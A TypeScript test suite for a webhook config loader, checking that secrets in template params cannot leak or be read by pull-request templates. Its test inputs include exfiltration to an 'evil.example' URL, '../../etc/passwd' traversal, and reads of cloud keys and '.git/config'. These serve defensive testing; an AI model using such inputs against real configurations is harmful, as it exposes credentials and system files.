import { describe, expect, it } from "vitest";
import type { LoadOptions } from "../../../src/config/load.ts";
import { ACCESS_KEY, only, repoWith, told, webhook } from "./repo.ts";

/** What CI has, and who writes a pull request wants. */
const CI = {
  ...ACCESS_KEY,
  GENAUTH_ACME_KEY_SECRET: "canary-acme",
  WEBHOOK_SECRET: "canary-webhook",
  WEBHOOK_PUBLIC_HOST: "hooks.acme.example",
  AWS_SECRET_ACCESS_KEY: "canary-aws",
};

const webhooksWith = (fields: string) => `webhooks:\n  a: { events: [login], ${fields} }\n`;
const templateWith = (fields: string, params = "{ x: {} }") =>
  `version: 1\nparams: { properties: ${params} }\n${webhooksWith(fields)}`;

/** A tenant that gives one param, `x`, to a template. */
function load(text: string, x: string, options: Partial<LoadOptions> = {}, top = "") {
  const repo = repoWith({
    "t.yaml": text,
    "webhooks.yaml": `version: 1\n${top}use:\n  - template: t.yaml\n    with:\n      x: ${x}\n`,
    "secret.txt": "canary-file\n",
  });
  return repo.load({ purpose: "plan", env: CI, ...options });
}

const URL = "url: https://hooks.acme.example";

describe("a secret on its way through a param", () => {
  it.each([
    ["the environment", "${env:WEBHOOK_SECRET}", "canary-webhook"],
    ["a file", "${file:secret.txt}", "canary-file"],
    ["a variable", "${var:v}", "canary-webhook"],
  ])("may end in a secret, from %s", async (_, x, value) => {
    for (const field of ["${param:x}", "a-${param:x}"]) {
      const loaded = await load(
        templateWith(`${URL}, secret: "${field}"`),
        x,
        {},
        "vars: { v: '${env:WEBHOOK_SECRET}' }\n",
      );
      const told = loaded.diagnostics.filter(({ rule }) => rule !== "unused-var");
      expect(told).toEqual([]);
      expect(only(loaded).secrets.get("a")?.reveal()).toBe(field.replace("${param:x}", value));
      expect(webhook(loaded, "a").secretRef).toContain("${");
      expect(JSON.stringify(loaded)).not.toContain("canary");
    }
  });

  it.each([
    ["a url", 'url: "https://evil.example/${param:x}"'],
    ["a whole url", 'url: "${param:x}"'],
    ["a name", `${URL}, name: "\${param:x}"`],
    ["a content type", `${URL}, contentType: "\${param:x}"`],
  ])("may not end in %s", async (_, fields) => {
    for (const x of ["${env:WEBHOOK_SECRET}", "${file:secret.txt}", "${var:v}", "a${env:WEBHOOK_SECRET:-b}"]) {
      const vars = x === "${var:v}" ? "vars: { v: '${env:WEBHOOK_SECRET}' }\n" : "";
      const { files } = await load(templateWith(fields), x, {}, vars);
      expect(files[0]?.diagnostics.map(({ rule }) => rule)).toEqual(["secret-in-the-open"]);
      expect(files[0]?.diagnostics[0]?.related).not.toEqual([]);
      expect(JSON.stringify(files)).not.toContain("canary");
    }
  });

  it("may not end in an event, also inside a list", async () => {
    const text = templateWith(URL).replace("[login]", '"${param:x}"');
    const { files } = await load(text, '[login, "${env:WEBHOOK_SECRET}"]');
    expect(files[0]?.diagnostics.map(({ rule }) => rule)).toEqual(["secret-in-the-open"]);
  });

  it.each([
    '{ type: string, pattern: "^canary-w" }',
    '{ type: string, pattern: "^[^c]" }',
    "{ type: string, enum: [canary-webhook] }",
    "{ type: string, const: other }",
    "{ type: string, minLength: 100 }",
    "{ type: string, maxLength: 1 }",
    "{ anyOf: [{ const: canary-webhook }, { type: integer }] }",
    "{ not: { const: canary-webhook } }",
  ])("is not looked at by a param that is %s: who writes templates could guess it bit by bit", async (param) => {
    const text = templateWith(`${URL}, secret: "\${param:x}"`, `{ x: ${param} }`);
    for (const env of [CI, { ...CI, WEBHOOK_SECRET: "something else" }, ACCESS_KEY]) {
      expect((await load(text, "${env:WEBHOOK_SECRET}", { env })).diagnostics).toEqual([]);
    }
  });

  it("is not looked at by conditions over all params either", async () => {
    const condition = "if: { properties: { x: { const: canary-webhook } } }, then: { required: [y] }";
    const text = `version: 1\nparams: { properties: { x: {}, y: {} }, ${condition} }\n${webhooksWith(
      `${URL}, name: "\${param:y}", secret: "\${param:x}"`,
    )}`;
    for (const env of [CI, ACCESS_KEY]) {
      expect((await load(text, "${env:WEBHOOK_SECRET}", { env })).diagnostics).toEqual([]);
    }
  });

  it("is a text for sure", async () => {
    const text = templateWith(`${URL}, secret: "\${param:x}"`, "{ x: { type: integer } }");
    const { diagnostics } = await load(text, "${env:WEBHOOK_SECRET}");
    expect(told(diagnostics)).toEqual(["params 5:10 `x` must be a whole number"]);
  });

  it("that is unset is told as that of any webhook, at both places", async () => {
    const text = templateWith(`${URL}, secret: "\${param:x}"`);
    const { files } = await load(text, "${env:WEBHOOK_SECRET}", { purpose: "apply", env: ACCESS_KEY });
    expect(files[0]?.error).toMatchObject({ code: "SECRET_MISSING" });
    expect(told(files[0]?.diagnostics ?? [])).toEqual(["secret-missing 5:10 WEBHOOK_SECRET is not set"]);
    expect(files[0]?.diagnostics[0]?.related.map(({ location }) => location.file)).toEqual(["t.yaml"]);
    expect((await load(text, "${env:WEBHOOK_SECRET}", { env: ACCESS_KEY })).diagnostics).toEqual([]);
  });

  it("that is plain text is a warning, and starred out whatever the param is called", async () => {
    const text = templateWith(`${URL}, secret: "\${param:x}"`, "{ x: { type: string, maxLength: 3 } }");
    const long = await load(text, "hunter2");
    const short = await load(text, "hu2");
    expect([long, short].map(({ diagnostics }) => diagnostics.map(({ rule }) => rule))).toEqual([
      ["params"],
      ["plain-secret"],
    ]);
    expect(JSON.stringify([long.diagnostics, short.diagnostics])).not.toMatch(/hunter2|hu2/);
    expect(short.diagnostics[0]?.sourceLine).toBe("      x: ***");
    const byDefault = templateWith(
      `${URL}, secret: "\${param:y}", name: "\${param:x}"`,
      "{ x: {}, y: { default: hunter2 } }",
    );
    const { diagnostics } = await load(byDefault, "X");
    expect(diagnostics.map(({ rule }) => rule)).toEqual(["plain-secret"]);
    expect(JSON.stringify(diagnostics)).not.toContain("hunter2");
  });
});

describe("a template of a pull request", () => {
  it.each([
    ["another variable", "${env:AWS_SECRET_ACCESS_KEY}"],
    ["an access key", "${env:GENAUTH_ACME_KEY_SECRET}"],
    ["an access key's id", "${env:GENAUTH_ACCESS_KEY_ID}"],
    ["a file outside of the repository", "${file:../../etc/passwd}"],
    ["the git folder", "${file:.git/config}"],
  ])("cannot read %s, itself, by default or through a param", async (_, reference) => {
    const own = await load(templateWith(`${URL}, name: "\${param:x}", secret: "${reference}"`), "X");
    const given = await load(templateWith(`${URL}, secret: "\${param:x}"`), reference);
    const byDefault = await load(
      templateWith(`${URL}, name: "\${param:x}", secret: "\${param:y}"`, `{ x: {}, y: { default: "${reference}" } }`),
      "X",
    );
    for (const { files } of [own, given, byDefault]) {
      expect(files[0]?.error?.code).toBe("CONFIG_INVALID");
      expect(JSON.stringify(files)).not.toContain("canary");
    }
  });

  it("cannot put a reference together from params", async () => {
    const { files } = await load(templateWith(`${URL}, secret: "\${env:\${param:x}}"`), "AWS_SECRET_ACCESS_KEY");
    expect(files[0]?.error?.code).toBe("CONFIG_INVALID");
    const twice = await load(templateWith(`${URL}, secret: "\${param:x}"`), "'$${env:AWS_SECRET_ACCESS_KEY}'");
    expect(only(twice).secrets.get("a")?.reveal()).toBe("${env:AWS_SECRET_ACCESS_KEY}");
  });

  it("cannot be larger than a template ever is, nor make much of little", async () => {
    const large = await load(`# ${"x".repeat(1024 * 1024)}\n${templateWith(`${URL}, name: "\${param:x}"`)}`, "X");
    expect(told(large.diagnostics)).toEqual(["template-file 3:15 t.yaml is over 1 MiB"]);
    const many = "${param:x}".repeat(20);
    const bomb = templateWith(`${URL}, secret: "${many}"`);
    const vars = `vars: { v: "${"${env:WEBHOOK_SECRET}".repeat(20)}" }\n`;
    const { diagnostics } = await load(bomb, `"${"${var:v}".repeat(20)}"`, {}, vars);
    expect(told(diagnostics)).toEqual([expect.stringMatching(/^reference .*too many references$/)]);
  });
});
